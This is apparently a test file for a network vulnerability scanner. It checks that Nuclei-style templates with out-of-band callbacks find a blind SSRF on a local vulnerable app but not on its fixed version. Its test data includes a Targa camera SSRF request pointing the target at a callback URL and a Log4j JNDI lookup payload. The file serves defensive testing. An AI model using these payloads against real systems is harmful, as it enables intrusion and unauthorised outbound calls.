// Community templates with out-of-band parts: {{interactsh-url}} is filled from the scan's callback listener and
// matchers on interactsh_protocol / interactsh_request read what it recorded — a blind SSRF is found on the vulnerable
// application and not on its fixed twin, directly and through a network scan; DNS-only templates stay refused.
import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCheckCallbacks, type ScanCallbacks } from '../src/checks/callbacks.ts';
import { parseTemplate, runChecks, TemplateError } from '../src/checks/index.ts';
import { executeTask, type TaskSpec } from '../src/agent/index.ts';
import { runNetworkScan } from '../src/network-scan.ts';
import { ssrfApp, type SsrfApp } from './checks-helpers/ssrf-app.ts';
import { closeAll, host, listen, svc } from './checks-helpers/servers.ts';

const VULNERABLE = '127.0.0.94';
const FIXED = '127.0.0.95';

/** Modelled on nuclei-templates http/iot/targa-camera-ssrf.yaml (Selea Targa camera, ZSL-2021-5617). */
const SSRF_TEMPLATE = `id: targa-camera-ssrf
info:
  name: Selea Targa IP OCR-ANPR Camera - Unauthenticated SSRF
  severity: high
  classification:
    cwe-id: CWE-918
  tags: targa,ssrf,oast,iot,camera,selea
http:
  - raw:
      - |
        POST /cps/test_backup_server?ACTION=TEST_IP&NOCONTINUE=TRUE HTTP/1.1
        Host: {{Hostname}}
        content-type: application/json
        Accept: */*

        {"test_type":"ip","test_debug":false,"ipnotify_type":"http/get","ipnotify_address":"http://{{interactsh-url}}","ipnotify_port":"0"}

    matchers-condition: and
    matchers:
      - type: word
        part: interactsh_protocol
        words:
          - "http"
      - type: word
        part: interactsh_request
        words:
          - "targa-notify"
`;

/**
 * The same with Nuclei's other spelling and a DNS-or-HTTP protocol matcher (HTTP suffices), in the application's
 * debug mode, where it fetches before answering (the callback is there when the response is matched).
 */
const UNDERSCORE_TEMPLATE = SSRF_TEMPLATE.replace('targa-camera-ssrf', 'targa-camera-ssrf-underscore')
  .replace('{{interactsh-url}}', '{{interactsh_url}}')
  .replace('"test_debug":false', '"test_debug":true')
  .replace('          - "http"\n', '          - "dns"\n          - "http"\n');

const DNS_TEMPLATE = `id: log4j-dns-callback
info:
  name: Log4j JNDI lookup (DNS callback)
  severity: critical
http:
  - method: GET
    path:
      - "{{BaseURL}}/?x=\${jndi:ldap://\${hostName}.{{interactsh-url}}/a}"
    matchers:
      - type: word
        part: interactsh_protocol
        words:
          - "dns"
`;

let vulnerable: SsrfApp;
let fixed: SsrfApp;
let vulnerablePort = 0;
let fixedPort = 0;
let callbacks: ScanCallbacks;

beforeAll(async () => {
  vulnerable = ssrfApp(true);
  fixed = ssrfApp(false);
  vulnerablePort = await listen(http.createServer(vulnerable.handler), VULNERABLE);
  fixedPort = await listen(http.createServer(fixed.handler), FIXED);
  callbacks = await startCheckCallbacks('127.0.0.1');
});
afterAll(async () => {
  await callbacks.close();
  await closeAll();
});

describe('community templates with out-of-band parts', () => {
  it('parses {{interactsh-url}} and interactsh matchers, and marks the template', () => {
    const t = parseTemplate(SSRF_TEMPLATE, 'targa.yaml', { source: 'community' });
    expect(t.interactsh).toBe(true);
    expect(t.http[0]!.matchers.map((m) => m.part)).toEqual(['interactsh_protocol', 'interactsh_request']);
    expect(parseTemplate(UNDERSCORE_TEMPLATE).interactsh).toBe(true);
  });

  it('keeps a DNS-only template refused, with its reason', () => {
    expect(() => parseTemplate(DNS_TEMPLATE)).toThrow(TemplateError);
    expect(() => parseTemplate(DNS_TEMPLATE)).toThrow(/DNS out-of-band interaction.*HTTP only/);
    expect(() => parseTemplate(SSRF_TEMPLATE.replace('interactsh_request', 'interactsh_dns_qname'))).toThrow(/not supported/);
  });

  it('finds the blind SSRF on the vulnerable application through its callback, not on the fixed twin', async () => {
    const templates = [parseTemplate(SSRF_TEMPLATE), parseTemplate(UNDERSCORE_TEMPLATE)];
    const errors: string[] = [];
    const onError = (_t: unknown, _p: number, e: Error) => errors.push(e.message);
    const found = await runChecks(templates, host(VULNERABLE, [{ port: vulnerablePort, service: svc('http') }]), {
      oob: callbacks,
      onError,
    });
    expect(found.map((f) => f.check).sort()).toEqual(['targa-camera-ssrf', 'targa-camera-ssrf-underscore']);
    expect(found[0]!.evidence).toMatch(/called back from 127\.0\.0\.\d+/);
    // The application was told host:port/token of the listener (Nuclei inserts the URL without its scheme).
    expect(vulnerable.fetched).toHaveLength(2);
    for (const u of vulnerable.fetched) expect(u).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[0-9a-f]{16}$/);
    expect(new Set(vulnerable.fetched).size).toBe(2);

    const none = await runChecks(templates, host(FIXED, [{ port: fixedPort, service: svc('http') }]), {
      oob: { ...callbacks, waitMs: 300 },
      onError,
    });
    expect(none).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('matches without waiting when the callback came before the answer', async () => {
    const found = await runChecks(
      [parseTemplate(UNDERSCORE_TEMPLATE)],
      host(VULNERABLE, [{ port: vulnerablePort, service: svc('http') }]),
      { oob: { ...callbacks, waitMs: 0 } },
    );
    expect(found.map((f) => f.check)).toEqual(['targa-camera-ssrf-underscore']);
  });

  it('leaves such templates out when the scan has no callback listener', async () => {
    const seen = vulnerable.fetched.length;
    const found = await runChecks([parseTemplate(SSRF_TEMPLATE)], host(VULNERABLE, [{ port: vulnerablePort, service: svc('http') }]));
    expect(found).toEqual([]);
    expect(vulnerable.fetched).toHaveLength(seen);
  });

  it('tells each target the probe address on its route when no address is given', async () => {
    const own = await startCheckCallbacks();
    try {
      expect(await own.callbackHost!(VULNERABLE)).toMatch(/^127\./);
      expect(own.listener.url().url).toMatch(/\/[0-9a-f]{16}$/);
    } finally {
      await own.close();
    }
  });

  it('starts a listener for a network scan that selects such a template and finds the SSRF', async () => {
    const result = await runNetworkScan({
      targets: [VULNERABLE],
      tcpPorts: [vulnerablePort],
      templates: [parseTemplate(SSRF_TEMPLATE)],
      oobHost: '127.0.0.1',
      discovery: 'none',
    });
    const found = result.hosts.flatMap((h) => h.findings.map((f) => f.check));
    expect(found).toEqual(['targa-camera-ssrf']);
  });

  it('runs in a probe task that carries the community template, its listener on the probe address on the route', async () => {
    const spec: TaskSpec = {
      id: 28,
      targets: [VULNERABLE, FIXED],
      exclude: [],
      profile: { standard_scan: false, custom_tcp_range: `${vulnerablePort},${fixedPort}` },
      checkpoint: null,
      tests: ['targa-camera-ssrf'],
      // Named in the profile: a community web template then runs on every web port, whatever technology it names.
      namedTests: ['targa-camera-ssrf'],
      community: [{ file: 'targa-camera-ssrf.yaml', yaml: SSRF_TEMPLATE }],
    };
    const out = await executeTask(spec, { report: async () => 'continue' }, undefined, { scan: { discovery: 'none' } });
    expect(out.outcome).toBe('done');
    if (out.outcome !== 'done') return;
    const found = out.result.hosts.flatMap((h) => h.findings.map((f) => `${h.address} ${f.check}`));
    expect(found).toEqual([`${VULNERABLE} targa-camera-ssrf`]);
  });
});
